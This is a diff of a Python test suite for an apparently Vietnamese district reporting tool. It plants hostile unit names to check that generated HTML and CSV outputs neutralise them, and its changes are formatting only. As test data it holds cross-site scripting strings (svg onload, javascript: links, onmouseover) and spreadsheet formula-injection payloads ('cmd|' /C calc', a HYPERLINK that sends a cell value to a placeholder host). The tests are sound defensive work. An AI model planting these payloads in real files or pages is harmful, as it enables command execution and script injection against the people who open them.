@@ -22,7 +22,7 @@ LINK = "[bấm](javascript:document.body.setAttribute('data-pwned','link'))"
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Tiên Động")'
 MINUS = "-2+3+cmd|' /C calc'!A0"
 AT = "@SUM(1+1)*cmd|' /C calc'!A0"
-ISSUER = 'UBND huyện Tứ Kỳ </script><svg onload="document.body.setAttribute(\'data-pwned\',\'svg\')">'
+ISSUER = "UBND huyện Tứ Kỳ </script><svg onload=\"document.body.setAttribute('data-pwned','svg')\">"
 
 
 def _hostile_workspace(root: Path) -> Path:
@@ -33,8 +33,14 @@ def _hostile_workspace(root: Path) -> Path:
     registry = root / "params" / "units" / "tu-ky.csv"
     with registry.open(encoding="utf-8-sig", newline="") as fh:
         rows = list(csv.DictReader(fh))
-    hostile = {"ngoc-ky": (SCRIPT, IMG), "tien-dong": (FORMULA, LINK), "ha-ky": (MINUS, MINUS),
-               "dan-chu": (AT, "\tDân Chủ"), "cong-lac": (LINK, LINK), "p-tc-kh": ("+Phòng Tài chính - Kế hoạch", LINK + " ")}
+    hostile = {
+        "ngoc-ky": (SCRIPT, IMG),
+        "tien-dong": (FORMULA, LINK),
+        "ha-ky": (MINUS, MINUS),
+        "dan-chu": (AT, "\tDân Chủ"),
+        "cong-lac": (LINK, LINK),
+        "p-tc-kh": ("+Phòng Tài chính - Kế hoạch", LINK + " "),
+    }
     found = set()
     for r in rows:
         if r["id"] in hostile:
@@ -50,7 +56,7 @@ def _hostile_workspace(root: Path) -> Path:
     defaults = root / "params" / "defaults.yaml"
     text = defaults.read_text(encoding="utf-8")
     text = text.replace("  issuer: UBND huyện Tứ Kỳ", f"  issuer: '{ISSUER.replace(chr(39), chr(39) * 2)}'")
-    text = text.replace("area_name: huyện", "area_name: \"huyện <b onmouseover=alert(1)>Tứ Kỳ</b>\"")
+    text = text.replace("area_name: huyện", 'area_name: "huyện <b onmouseover=alert(1)>Tứ Kỳ</b>"')
     defaults.write_text(text, encoding="utf-8")
     return root
 
@@ -121,13 +127,18 @@ def _read_dom(page: Path, tmp_path: Path) -> tuple[_Dom, str]:
 
 def test_hostile_names_stay_text_in_every_html_output(hostile_runs, tmp_path):
     pages = sorted(hostile_runs.rglob("*.html"))
-    assert {p.name for p in pages} >= {"01_monthly_review.html", "03_anomalies.html", "02_semiannual_report.html",
-                                       "phu-luc-2023-05.html", "phu-luc-2023-H1.html"}, pages
+    assert {p.name for p in pages} >= {
+        "01_monthly_review.html",
+        "03_anomalies.html",
+        "02_semiannual_report.html",
+        "phu-luc-2023-05.html",
+        "phu-luc-2023-H1.html",
+    }, pages
     for page in pages:
         dom, _ = _read_dom(page, tmp_path)
         assert "data-pwned" not in dom.body, (page.name, dom.body)
         assert dom.live == [], (page.name, dom.live)
-        if "anomalies" not in page.name:   # the anomalies page names units only where a check flags them
+        if "anomalies" not in page.name:  # the anomalies page names units only where a check flags them
             assert "Ngọc Kỳ" in " ".join(dom.text), page.name
     review = " ".join(_read_dom(hostile_runs / "2023-05" / "01_monthly_review.html", tmp_path)[0].text)
     # the letter names the hostile units, and the reader sees exactly what was written
@@ -152,7 +163,7 @@ def test_no_csv_cell_is_a_formula(hostile_runs):
         for row in rows:
             for cell in row:
                 if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
-                    assert number.match(cell), (f.name, cell)   # a plain number, which Excel keeps a number
+                    assert number.match(cell), (f.name, cell)  # a plain number, which Excel keeps a number
                     seen_negative = True
                 if cell.startswith("'") and any(h in cell for h in ("HYPERLINK", "cmd|", "Phòng Tài chính")):
                     seen_hostile = True
@@ -172,4 +183,4 @@ def test_every_interactive_chart_draws_offline(hostile_runs, tmp_path):
     assert all(marks > 10 for marks in dom.charts.values()), dom.charts
     assert "already been declared" not in log
     html = (hostile_runs / "2023-05-bat-thuong" / "03_anomalies.html").read_text(encoding="utf-8")
-    assert html.count("window.vegaEmbed=") == 1   # one Vega bundle on the page
+    assert html.count("window.vegaEmbed=") == 1  # one Vega bundle on the page
